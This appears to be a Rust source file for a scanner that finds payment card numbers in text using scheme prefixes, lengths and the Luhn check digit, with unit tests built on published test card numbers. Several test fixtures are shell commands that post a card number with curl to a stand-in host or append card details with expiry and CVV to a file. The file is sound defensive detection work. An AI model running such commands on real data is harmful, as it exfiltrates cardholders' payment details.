//! Numbers of payment cards in texts: 13 to 19 digits that a scheme gives out, with a right check digit, that are no part of a longer
//! number. Letters may be glued to them (`%B4111111111111111^DOE`, as a magnetic stripe has it).
//!
//! One in ten random numbers has a right check digit (Luhn, ISO/IEC 7812-1 annex B); with the schemes' first digits and lengths few
//! numbers that are no cards are left. Times since 1970 in milliseconds or microseconds begin with 1, as no scheme's cards here do.
use crate::events::Field;
use crate::extract::{Extractor, Found, Needs, Text};
use std::ops::RangeInclusive;

/// What its places are called.
pub const NAME: &str = "card";

/// Fewest and most digits.
const DIGITS_MIN: usize = 13;
const DIGITS_MAX: usize = 19;
/// Most groups of digits in a number.
const GROUPS_MAX: usize = 7;
/// What may stand between two groups, the same throughout a number.
const SEPARATORS: [&str; 10] = [" ", "-", ".", "/", "_", "+", "\t", "  ", " - ", "\u{a0}"];

/// First digits and lengths of the schemes (their first six digits, from – to): ISO/IEC 7812, as the schemes publish them.
const SCHEMES: [(RangeInclusive<u32>, RangeInclusive<usize>); 19] = [
    // Visa
    (400_000..=499_999, 13..=13),
    (400_000..=499_999, 16..=16),
    (400_000..=499_999, 19..=19),
    // Mastercard
    (510_000..=559_999, 16..=16),
    (222_100..=272_099, 16..=16),
    // American Express
    (340_000..=349_999, 15..=15),
    (370_000..=379_999, 15..=15),
    // Diners Club
    (300_000..=305_999, 14..=19),
    (309_500..=309_599, 14..=19),
    (360_000..=369_999, 14..=19),
    (380_000..=399_999, 16..=19),
    // Discover, and RuPay among its numbers
    (601_100..=601_199, 16..=19),
    (644_000..=659_999, 16..=19),
    // RuPay
    (508_000..=508_999, 16..=16),
    (810_000..=829_999, 16..=19),
    // UnionPay
    (620_000..=629_999, 16..=19),
    // JCB
    (352_800..=358_999, 16..=19),
    // Maestro
    (500_000..=509_999, 16..=19),
    (560_000..=699_999, 16..=19),
];

/// Finds them.
pub struct Card;

impl Extractor for Card {
    fn fields(&self) -> &'static [Field] {
        &[]
    }

    fn needs(&self) -> &'static Needs {
        const NEEDS: Needs = Needs::NOTHING.digits(DIGITS_MIN as u32);
        &NEEDS
    }

    fn extract(&self, text: &Text<'_>, found: &mut Found) {
        let bytes = text.plain.as_bytes();
        let mut at = 0;
        while let Some(first) = bytes[at..].iter().position(u8::is_ascii_digit).map(|next| at + next) {
            at = match card_at(text.plain, first) {
                Some((end, digits)) => {
                    found.mark(NAME, &digits, text, first..end);
                    end
                }
                None => first + bytes[first..].iter().take_while(|byte| byte.is_ascii_digit()).count(),
            };
        }
    }
}

/// The card's number that begins at `first`, where a run of digits does: where it ends, and its digits.
fn card_at(plain: &str, first: usize) -> Option<(usize, String)> {
    let bytes = plain.as_bytes();
    // The places of a decimal are no number of their own, but groups may stand behind a number and a dot.
    let in_decimal = matches!(&bytes[..first], [.., before, b'.'] if before.is_ascii_digit());
    let (mut digits, mut separator, mut best) = (String::new(), None, None);
    let mut at = first;
    for group in 0..GROUPS_MAX {
        let len = bytes[at..].iter().take(DIGITS_MAX + 1).take_while(|byte| byte.is_ascii_digit()).count();
        if len == 0 || digits.len() + len > DIGITS_MAX {
            break;
        }
        digits.push_str(&plain[at..at + len]);
        at += len;
        if is_card(&digits) && !(in_decimal && group == 0) {
            best = Some((at, digits.clone()));
        }
        let follows = |separator: &&&str| {
            let behind = plain[at..].strip_prefix(**separator);
            behind.is_some_and(|behind| behind.starts_with(|next: char| next.is_ascii_digit()))
        };
        let Some(next) = SEPARATORS.iter().find(follows).filter(|next| *separator.get_or_insert(**next) == **next) else { break };
        at += next.len();
    }
    best
}

/// Whether digits are a number that a scheme gives out, with a right check digit.
pub fn is_card(digits: &str) -> bool {
    if !(DIGITS_MIN..=DIGITS_MAX).contains(&digits.len()) {
        return false;
    }
    let Some(Ok(prefix)) = digits.get(..6).map(str::parse::<u32>) else { return false };
    let given_out = SCHEMES.iter().any(|(first, lens)| first.contains(&prefix) && lens.contains(&digits.len()));
    let made_up = digits.bytes().skip(1).all(|digit| digit == digits.as_bytes()[0]);
    given_out && !made_up && has_right_check_digit(digits)
}

fn has_right_check_digit(digits: &str) -> bool {
    let sum: u32 = digits
        .bytes()
        .rev()
        .enumerate()
        .map(|(place, digit)| match (place % 2, u32::from(digit - b'0')) {
            (1, digit @ 5..) => 2 * digit - 9,
            (1, digit) => 2 * digit,
            (_, digit) => digit,
        })
        .sum();
    sum.is_multiple_of(10)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::extract::{Context, spots};

    /// Every number found, as it stands in the text.
    fn found(context: Context, text: &str) -> Vec<String> {
        let mut there = Vec::new();
        spots(context, text, &[&Card], &mut there);
        // A text that was prepared is looked through twice.
        there.sort_by_key(|spot| (spot.range.start, spot.range.end));
        there.dedup_by_key(|spot| spot.range.clone());
        there.into_iter().map(|spot| text[spot.range].to_owned()).collect()
    }

    #[test]
    fn cards_are_told_from_other_numbers() {
        use Context::*;
        // Numbers that the schemes publish for tests.
        let rows: &[(Context, &str, &[&str])] = &[
            (Other, "4111111111111111", &["4111111111111111"]),
            (Other, "4222222222222", &["4222222222222"]),
            (Other, "4000000000000000006", &["4000000000000000006"]),
            (Other, "5555555555554444", &["5555555555554444"]),
            (Other, "5105105105105100", &["5105105105105100"]),
            (Other, "2223003122003222", &["2223003122003222"]),
            (Other, "2720990000000007", &["2720990000000007"]),
            (Other, "378282246310005", &["378282246310005"]),
            (Other, "341111111111111", &["341111111111111"]),
            (Other, "30569309025904", &["30569309025904"]),
            (Other, "36227206271667", &["36227206271667"]),
            (Other, "6011111111111117", &["6011111111111117"]),
            (Other, "6445644564456445", &["6445644564456445"]),
            (Other, "3530111333300000", &["3530111333300000"]),
            (Other, "6200000000000005", &["6200000000000005"]),
            (Other, "6759649826438453", &["6759649826438453"]),
            (Other, "6521111111111117", &[]),
            (Other, "4111 1111 1111 1111", &["4111 1111 1111 1111"]),
            (Other, "4111-1111-1111-1111", &["4111-1111-1111-1111"]),
            (Other, "4111.1111.1111.1111", &["4111.1111.1111.1111"]),
            (Other, "4111\u{a0}1111\u{a0}1111\u{a0}1111", &["4111\u{a0}1111\u{a0}1111\u{a0}1111"]),
            (Other, "3782 822463 10005", &["3782 822463 10005"]),
            (Other, "4111-1111 1111 1111", &[]),
            (Chat, "my card is 4111 1111 1111 1111, 12/27, 123", &["4111 1111 1111 1111"]),
            (Chat, "4111 1111 1111 1111 12/27", &["4111 1111 1111 1111"]),
            (Chat, "in 2027 4111111111111111 ends", &["4111111111111111"]),
            (Chat, "(4111111111111111)", &["4111111111111111"]),
            (Chat, "card:4111111111111111;", &["4111111111111111"]),
            (Chat, "४ 4111111111111111.", &["4111111111111111"]),
            (Chat, "４１１１１１１１１１１１１１１１", &["４１１１１１１１１１１１１１１１"]),
            (Chat, "41111111\u{200b}11111111", &["41111111\u{200b}11111111"]),
            (Command, "echo 4111111111111111|12|2027|123 >> cc.txt", &["4111111111111111"]),
            (Command, "curl -d 'n=4111111111111111&m=12' http://x.example", &["4111111111111111"]),
            (Command, "echo '4111111111111111,5555555555554444'", &["4111111111111111", "5555555555554444"]),
            (Command, "echo NDExMTExMTExMTExMTExMSBpcyBpdA== | base64 -d", &["NDExMTExMTExMTExMTExMSBpcyBpdA=="]),
            (Other, "4111-1111-1111-1111-123", &["4111-1111-1111-1111"]),
            (Other, "4111111111111112", &[]),
            (Other, "4111 1111 1111 1112", &[]),
            (Other, "411111111111111", &[]),
            (Other, "41111111111111111111", &[]),
            (Other, "0004111111111111111", &[]),
            (Other, "x4111111111111111", &["4111111111111111"]),
            (Other, "4111111111111111x", &["4111111111111111"]),
            (Other, "0.4111111111111111", &[]),
            (Other, "4111111111111111.5", &["4111111111111111"]),
            (Other, "+4111111111111111", &["4111111111111111"]),
            (Other, "12-4111-1111-1111-1111", &["4111-1111-1111-1111"]),
            (Other, "4111-1111-1111-1111-22222", &["4111-1111-1111-1111"]),
            (Other, "%B4111111111111111^DOE/JO^27121010000", &["4111111111111111"]),
            (Other, ";4111111111111111=27121010000?", &["4111111111111111"]),
            (Other, "CC4111111111111111", &["4111111111111111"]),
            (Other, "4111/1111/1111/1111", &["4111/1111/1111/1111"]),
            (Other, "4111_1111_1111_1111", &["4111_1111_1111_1111"]),
            (Other, "4111+1111+1111+1111", &["4111+1111+1111+1111"]),
            (Other, "4111%201111%201111%201111", &["4111%201111%201111%201111"]),
            (Other, "1.4111.1111.1111.1111", &["4111.1111.1111.1111"]),
            (Other, "4444444444444444", &[]),
            (Other, "0000000000000000", &[]),
            (Other, "1234567812345670", &[]),
            (Other, "1774138242831494", &[]),
            (Other, "1774138242831", &[]),
            (Other, "2026-03-22 00:10:42.831494", &[]),
            (Other, "d41d8cd98f00b204e9800998ecf8427e", &[]),
            (Other, "490154203237518", &[]),
            (Other, "", &[]),
        ];
        assert!(rows.len() >= 40);
        let wrong: Vec<String> = rows
            .iter()
            .filter_map(|(context, text, expected)| {
                let there = found(*context, text);
                (there != *expected).then(|| format!("{text:?}: found {there:?}, expected {expected:?}"))
            })
            .collect();
        assert!(wrong.is_empty(), "{wrong:#?}");
    }

    #[test]
    fn an_endless_row_of_groups_takes_time_linear_in_its_length() {
        let text = "4111 ".repeat(200_000);
        assert!(found(Context::Other, &text).is_empty());
    }
}
